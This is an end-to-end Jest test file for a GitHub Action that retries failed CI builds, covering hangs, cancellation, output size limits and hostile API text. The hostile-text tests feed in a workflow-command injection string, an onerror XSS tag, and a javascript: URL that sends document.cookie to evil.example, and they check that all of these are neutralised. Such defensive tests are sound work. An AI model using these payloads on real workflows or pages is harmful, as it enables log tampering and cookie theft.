// End to end: bounded, honest, clean (docs/contract.md, "Bounded, honest, clean"). A hung server, a hung
// status read, SIGINT/SIGTERM in every phase, hostile API text, and sizes at GitHub's limits, against the
// emulator through the bundled action. Every case has its own emulator so the slow ones (a real 30 s
// request time-out) run concurrently.
import type { ChildProcess } from 'node:child_process'
import { describe, expect, it } from '@jest/globals'
import { DEMO_IDS, demoScenario, scaledScenario, type CallRecord } from '../../tools/emulator/index.js'
import {
  awsEnv,
  codeartsInputs,
  errorLines,
  resultsOf,
  run,
  waitForCalls,
  withEmulator,
  withoutMasks,
  type ActionRun,
  type ResultObject
} from './helpers.js'
import { SERVICES, WAIT, withEmu } from './service-cases.js'

const CODEBUILD = { service: 'codebuild', 'project-name': 'integration-tests' }

/** Runs the action and sends `signal` when `when` resolves; returns the run and the ms from signal to exit. */
async function signalled(
  inputs: Record<string, string>,
  env: Record<string, string>,
  when: (child: ChildProcess) => Promise<void>,
  signal: NodeJS.Signals = 'SIGINT'
): Promise<{ result: ActionRun; exitMs: number }> {
  let at = 0
  let sent: Promise<void> = Promise.resolve()
  const onSpawn = (child: ChildProcess): void => {
    sent = when(child).then(() => {
      at = Date.now()
      child.kill(signal)
    })
  }
  const result = await run(inputs, { env, onSpawn, timeoutMs: 30_000 })
  await sent
  expect(at).toBeGreaterThan(0)
  return { result, exitMs: Date.now() - at }
}

/** Cancelled: exit 1 within the contract's 5 s, one error line that says so, a summary, every output. */
function expectCancelledStep(result: ActionRun, exitMs: number, signal = 'SIGINT'): void {
  expect(result.exitCode).toBe(1)
  expect(exitMs).toBeLessThan(5000)
  expect(errorLines(result)).toEqual([
    expect.stringMatching(new RegExp(`^::error::Cancelled \\(${signal}\\)`))
  ])
  expect(result.summary).toContain('<table>')
  expect(result.outputs['results-file']).toBeTruthy()
  expect(JSON.parse(result.resultsFile)).toEqual(resultsOf(result))
}

const projectOf = (call: CallRecord): string | undefined => {
  const body = call.body as { projectName?: string; ids?: string[]; id?: string }
  return body.projectName ?? (body.ids?.[0] ?? body.id)?.split(':')[0]
}

describe('a server that accepts a request and never answers', () => {
  it.concurrent(
    'AWS: the first call hangs; after 30 s it counts as a network error and is sent again; one retry',
    async () => {
      await withEmulator(demoScenario(), async emu => {
        emu.inject('*', { hang: 1 })
        const result = await run(CODEBUILD, { env: awsEnv(emu), timeoutMs: 90_000 })
        expect(result.exitCode).toBe(0)
        expect(result.outputs).toMatchObject({ retried: 'true', status: 'in-progress' })
        expect(emu.calls[0]?.fault).toBe('hang')
        expect(emu.calls[1]?.operation).toBe(emu.calls[0]?.operation)
        expect(result.stdout).toContain('no answer within 30 s')
        expect(emu.retriesApplied('codebuild')).toBe(1)
        expect(result.durationMs).toBeGreaterThanOrEqual(30_000)
        expect(result.durationMs).toBeLessThan(60_000)
      })
    },
    100_000
  )

  it.concurrent(
    'AWS: the retry call hangs; the execution is read again before it is sent again; one retry',
    async () => {
      await withEmulator(demoScenario(), async emu => {
        emu.inject('RetryBuild', { hang: 1 })
        const result = await run(CODEBUILD, { env: awsEnv(emu), timeoutMs: 90_000 })
        expect(result.exitCode).toBe(0)
        expect(result.outputs.retried).toBe('true')
        expect(emu.callsTo('RetryBuild').map(c => c.fault)).toEqual(['hang', undefined])
        const second = emu.calls.indexOf(emu.callsTo('RetryBuild')[1]!)
        expect(emu.calls[second - 1]?.operation).toBe('BatchGetBuilds')
        expect(emu.retriesApplied('codebuild')).toBe(1)
      })
    },
    100_000
  )

  it.concurrent(
    'CodeArts: the first call hangs; after 30 s it is sent again; one retry',
    async () => {
      await withEmulator(demoScenario(), async emu => {
        emu.inject('*', { hang: 1 })
        const result = await run(codeartsInputs(emu), { timeoutMs: 90_000 })
        expect(result.exitCode).toBe(0)
        expect(result.outputs).toMatchObject({ retried: 'true', status: 'in-progress' })
        expect(emu.calls[0]).toMatchObject({ operation: 'list', fault: 'hang' })
        expect(emu.retriesApplied('codearts')).toBe(1)
      })
    },
    100_000
  )

  it.concurrent('a status read that hangs does not outlive timeout-minutes', async () => {
    await withEmulator(demoScenario(), async emu => {
      // Once the retry is in, every status read hangs.
      emu.onCall('RetryBuild', () => {
        emu.inject('BatchGetBuilds', { hang: 1000 })
      })
      const result = await run(
        { ...CODEBUILD, ...WAIT, 'timeout-minutes': '0.1' },
        { env: awsEnv(emu), timeoutMs: 30_000 }
      )
      expect(result.exitCode).toBe(1)
      expect(result.outputs).toMatchObject({ retried: 'true', status: 'timed-out' })
      expect(result.durationMs).toBeLessThan(6000 + 4000)
      expect(emu.callsTo('BatchGetBuilds').some(c => c.fault === 'hang')).toBe(true)
    })
  })
})

describe('cancellation keeps results', () => {
  it.concurrent('SIGINT during discovery: cancelled, nothing retried, no retry call', async () => {
    await withEmulator(demoScenario(), async emu => {
      emu.inject('ListBuildsForProject', { hang: 1 })
      const { result, exitMs } = await signalled(CODEBUILD, awsEnv(emu), () =>
        waitForCalls(emu, 'ListBuildsForProject')
      )
      expectCancelledStep(result, exitMs)
      expect(result.outputs).toMatchObject({ retried: 'false', status: 'cancelled' })
      expect(result.summary).toContain('cancelled')
      expect(emu.callsTo('RetryBuild')).toHaveLength(0)
    })
  })

  it.concurrent.each(['SIGINT', 'SIGTERM'] as const)(
    '%s during the retry call: an error that says the retry may have been applied, with the link',
    async signal => {
      await withEmulator(demoScenario(), async emu => {
        emu.inject('RetryBuild', { hang: 1 })
        const { result, exitMs } = await signalled(
          CODEBUILD,
          awsEnv(emu),
          () => waitForCalls(emu, 'RetryBuild'),
          signal
        )
        expectCancelledStep(result, exitMs, signal)
        expect(result.outputs).toMatchObject({ retried: 'false', status: 'error' })
        const [r] = resultsOf(result)
        expect(r?.message).toContain('may have been applied')
        expect(r?.message).toContain('https://us-east-1.console.aws.amazon.com/codesuite/codebuild/')
        expect(emu.callsTo('RetryBuild')).toHaveLength(1)
      })
    }
  )

  it.concurrent(
    'SIGINT while waiting with cancel-on-abort and a slow stop call: stopped, in time',
    async () => {
      const c = SERVICES.find(s => s.service === 'codebuild')!
      await withEmu(c, { result: 'succeeded', settleAfterReads: 10_000 }, async emu => {
        emu.inject(c.stopOp, { latencyMs: 2000 })
        const { result, exitMs } = await signalled(
          { ...c.inputs(emu), ...WAIT, 'cancel-on-abort': 'true' },
          c.env(emu),
          () => waitForCalls(emu, c.statusOps[0]!, 3)
        )
        expectCancelledStep(result, exitMs)
        expect(result.outputs).toMatchObject({ retried: 'true', status: 'stopped' })
        expect(c.state(emu)).toBe(c.stopped)
      })
    }
  )

  it.concurrent.each([
    ['without wait', {}],
    ['with wait', WAIT]
  ])(
    'targets mode %s: SIGINT mid-scan gives a result for every target and no request for a new one',
    async (_what, extra) => {
      const n = 200
      const scenario = { ...scaledScenario(n), latencyMs: 40 }
      await withEmulator(scenario, async emu => {
        let atSignal = -1
        let child: ChildProcess | undefined
        // Sent from inside the emulator as the 20th target's first call arrives: nothing can slip in between.
        emu.onCall('ListBuildsForProject', (_call, nth) => {
          if (nth !== 20) return
          atSignal = emu.calls.length
          child?.kill('SIGINT')
        })
        const targets = Array.from({ length: n }, (_, i) => `codebuild:bench-project-${i + 1}`)
        const started = Date.now()
        const result = await run(
          { targets: targets.join('\n'), concurrency: '4', ...extra },
          {
            env: awsEnv(emu),
            onSpawn: c => {
              child = c
            },
            timeoutMs: 30_000
          }
        )
        expect(atSignal).toBeGreaterThan(0)
        expect(result.exitCode).toBe(1)
        expect(Date.now() - started).toBeLessThan(20_000)
        const results = resultsOf(result)
        expect(results.map(r => r.target)).toEqual(targets)
        expect(JSON.parse(result.resultsFile)).toEqual(results)
        const notStarted = results.filter(r => r.status === 'cancelled')
        expect(notStarted.length).toBeGreaterThanOrEqual(n - 25)
        // No request for a target that had not been started when the signal went out.
        const before = new Set(emu.calls.slice(0, atSignal).map(projectOf))
        const after = new Set(emu.calls.slice(atSignal).map(projectOf))
        expect([...after].filter(p => !before.has(p))).toEqual([])
        expect(result.summary.match(/<tr><td>codebuild:/g)).toHaveLength(n)
      })
    }
  )
})

/** Text that would be workflow commands, a blank line that ends an HTML block, markup and an image. */
const INJECTION =
  'boom\n::add-mask::leak\n::stop-commands::pwned\n::warning::injected\n\n![img](https://evil.example/a.png)\n<img src=x onerror=alert(1)>'

/** Lines of the log that would be read as a workflow command carrying text from the API. */
function injectedCommands(stdout: string): string[] {
  return (
    stdout
      .split(/\r\n|\r|\n/)
      .filter(line => /^\s*::/.test(line))
      // Our own commands carry API text after their name, as data: a warning, the error line, a retried
      // execution's notice, a target's group title.
      .filter(
        line => /leak|pwned|injected|evil/.test(line) && !/^::(warning|error|notice|group)::/.test(line)
      )
  )
}

describe.each(SERVICES)('hostile API text: $service', c => {
  it.concurrent(
    'failure text with commands and markup stays data in the log, outputs and summary',
    async () => {
      const scenario = demoScenario()
      if (c.service === 'codearts') {
        // CodeArts reports stage names, not messages: the hostile text is the failed stage's name.
        const run0 = scenario.codearts!.projects[0]!.pipelines[0]!.runs.find(
          r => r.id === DEMO_IDS.codeartsFailedRun
        )!
        run0.stages = run0.stages.map(s => (s.name === 'Deploy' ? { ...s, name: INJECTION } : s))
      }
      if (c.service === 'codebuild-batch') {
        // A batch reports its failed build groups: the hostile text is the group's identifier.
        const batch = scenario.codebuild!.projects.find(p => p.name === 'nightly-matrix')!.batches![0]!
        batch.groups = (batch.groups ?? []).map(g =>
          g.identifier === 'linux_arm' ? { ...g, identifier: INJECTION } : g
        )
      }
      c.onRetry(scenario, {
        ...c.failedOutcome,
        failureReason: INJECTION,
        // A SageMaker step name is `[A-Za-z0-9\-_]*`, a Step Functions state name 1-80 characters (botocore), an
        // Azure stage name letters, digits and `_`: the services cannot send this one.
        ...(['sagemaker', 'stepfunctions', 'azure-pipelines'].includes(c.service)
          ? {}
          : { failedStage: INJECTION }),
        ...(c.service === 'codebuild-batch' ? { failedGroup: INJECTION } : {})
      })
      await withEmulator(scenario, async emu => {
        const result = await run({ ...c.inputs(emu), ...WAIT }, { env: c.env(emu), timeoutMs: 30_000 })
        expect(result.exitCode).toBe(1)
        expect(result.outputs.status).toBe('failed')
        expect(injectedCommands(withoutMasks(result.stdout))).toEqual([])
        expect(result.stdout).not.toMatch(/^::add-mask::leak/m)
        expect(result.stdout).not.toMatch(/^\s*::stop-commands::/m)
        // The text is there, as data inside a line of ours.
        expect(result.stdout).toMatch(/^\S.*boom ::add-mask::leak ::stop-commands::pwned/m)
        const [r] = resultsOf(result)
        expect(r?.message).toContain('::add-mask::leak')
        expect(r?.message).not.toMatch(/[\r\n]/)
        // The summary shows the text, escaped: no image, no tag, no blank line.
        expect(result.summary).not.toContain('<img')
        expect(result.summary).not.toContain('![img]')
        expect(result.summary).toContain('&#33;&#91;img&#93;&#40;https://evil.example/a.png&#41;')
        expect(result.summary).not.toMatch(/\n\s*\n/)
      })
    }
  )
})

describe('links and error bodies from CodeArts', () => {
  it.concurrent('a javascript: detail_url never becomes console-url or a summary link', async () => {
    const scenario = demoScenario()
    const failed = scenario.codearts!.projects[0]!.pipelines[0]!.runs.find(
      r => r.id === DEMO_IDS.codeartsFailedRun
    )!
    failed.detailUrl = 'javascript:fetch("https://evil.example/?c="+document.cookie)'
    await withEmulator(scenario, async emu => {
      const result = await run({ ...codeartsInputs(emu), region: 'cn-north-4' })
      expect(result.exitCode).toBe(0)
      expect(result.outputs['console-url']).toBe(
        `https://devcloud.cn-north-4.huaweicloud.com/cicd/project/${DEMO_IDS.codeartsProject}/pipeline/detail/${DEMO_IDS.codeartsPipeline}/${DEMO_IDS.codeartsFailedRun}?v=1`
      )
      for (const text of [result.summary, JSON.stringify(result.outputs), result.stdout])
        expect(text).not.toContain('javascript:')
    })
  })

  it.concurrent.each(['errorCode', 'code', 'nested'] as const)(
    'a concurrency-limit answer in the %s form is backed off, then the retry goes through',
    async form => {
      await withEmulator(demoScenario(), async emu => {
        emu.inject('codearts:retry', {
          error: {
            code: 'DEVPIPE.00011169',
            message: 'queued: concurrency limit',
            status: 400,
            times: 1,
            form
          }
        })
        const result = await run(codeartsInputs(emu))
        expect(result.exitCode).toBe(0)
        expect(result.outputs.retried).toBe('true')
        expect(emu.callsTo('codearts:retry').map(call => call.fault)).toEqual(['error', undefined])
      })
    }
  )

  it.concurrent('a stage that is ASYNC_FAILED is found and retried', async () => {
    const scenario = demoScenario()
    const failed = scenario.codearts!.projects[0]!.pipelines[0]!.runs.find(
      r => r.id === DEMO_IDS.codeartsFailedRun
    )!
    failed.stages = [
      { name: 'Build', status: 'COMPLETED' },
      { name: 'Scan', status: 'ASYNC_FAILED', jobs: [{ name: 'sast', status: 'ASYNC_FAILED' }] }
    ]
    await withEmulator(scenario, async emu => {
      const result = await run(codeartsInputs(emu))
      expect(result.exitCode).toBe(0)
      expect(result.outputs.retried).toBe('true')
      expect(result.stdout).toContain('failed stages: Scan')
    })
  })
})

describe("GitHub's limits", () => {
  it.concurrent(
    '2,000 targets that fail with 1,000-character messages: every output under its cap, results-file whole',
    async () => {
      const message = `AccessDenied: ${'m'.repeat(1100)}`
      await withEmulator(scaledScenario(2000), async emu => {
        emu.inject('ListBuildsForProject', {
          error: { code: 'AccessDeniedException', message, status: 400, times: 2000 }
        })
        const targets = Array.from({ length: 2000 }, (_, i) => `codebuild:bench-project-${i + 1}`)
        const result = await run(
          { targets: targets.join('\n'), concurrency: '64' },
          { env: awsEnv(emu), timeoutMs: 120_000 }
        )
        expect(result.exitCode).toBe(1)
        const all = JSON.parse(result.resultsFile) as ResultObject[]
        expect(all.map(r => r.target)).toEqual(targets)
        expect(all.every(r => r.status === 'error' && r.message.length === 1000)).toBe(true)
        expect(result.outputs.results!.length).toBeLessThan(1_000_000)
        expect(resultsOf(result).length).toBeGreaterThan(0)
        expect(Buffer.byteLength(result.summary)).toBeLessThan(1024 * 1024)
        // Every target errored, so every row needs attention: all 2,000 are shown (cells are cut to 200
        // characters, the rows fit; the cutting itself is tested with cmark-gfm in summary-render.test.ts).
        expect(result.summary.match(/<tr><td>codebuild:/g)).toHaveLength(2000)
        const warnings = result.stdout.split('\n').filter(l => l.startsWith('::warning::'))
        expect(warnings.length).toBeLessThanOrEqual(11)
        expect(warnings.at(-1)).toMatch(/more warnings in the log/)
        const [error] = errorLines(result)
        expect(error!.length).toBeLessThan(5000)
        expect(error).toContain('2000 of 2000 targets did not succeed')
      })
    },
    150_000
  )

  it.concurrent('a 3 MB failure message is cut: small log, outputs and summary', async () => {
    await withEmulator(demoScenario(), async emu => {
      emu.inject('ListBuildsForProject', {
        error: { code: 'AccessDeniedException', message: `denied ${'z'.repeat(3_000_000)}`, status: 400 }
      })
      const result = await run(CODEBUILD, { env: awsEnv(emu), timeoutMs: 30_000 })
      expect(result.exitCode).toBe(1)
      expect(result.outputs.status).toBe('error')
      expect(resultsOf(result)[0]!.message.length).toBeLessThanOrEqual(1000)
      expect(result.stdout.length).toBeLessThan(20_000)
      expect(Buffer.byteLength(result.summary)).toBeLessThan(10_000)
      expect(result.resultsFile.length).toBeLessThan(10_000)
    })
  })

  it.concurrent('an endpoint with a password is refused before any call, and never printed', async () => {
    await withEmulator(demoScenario(), async emu => {
      const endpoint = emu.url.replace('http://', 'http://alice:hunter2@')
      const result = await run({ ...CODEBUILD, endpoint }, { env: awsEnv(emu) })
      expect(result.exitCode).toBe(1)
      expect(errorLines(result)).toEqual([expect.stringMatching(/^::error::Input 'endpoint': /)])
      expect(result.stdout + result.stderr).not.toContain('hunter2')
      expect(emu.calls).toHaveLength(0)
    })
  })

  it.concurrent('a summary file that cannot be written is a warning, not a failed step', async () => {
    await withEmulator(demoScenario(), async emu => {
      const result = await run(CODEBUILD, {
        env: { ...awsEnv(emu), GITHUB_STEP_SUMMARY: '/nonexistent-dir/summary' }
      })
      expect(result.exitCode).toBe(0)
      expect(result.outputs.retried).toBe('true')
      expect(result.stdout).toMatch(/^::warning::the job summary could not be written/m)
    })
  })
})
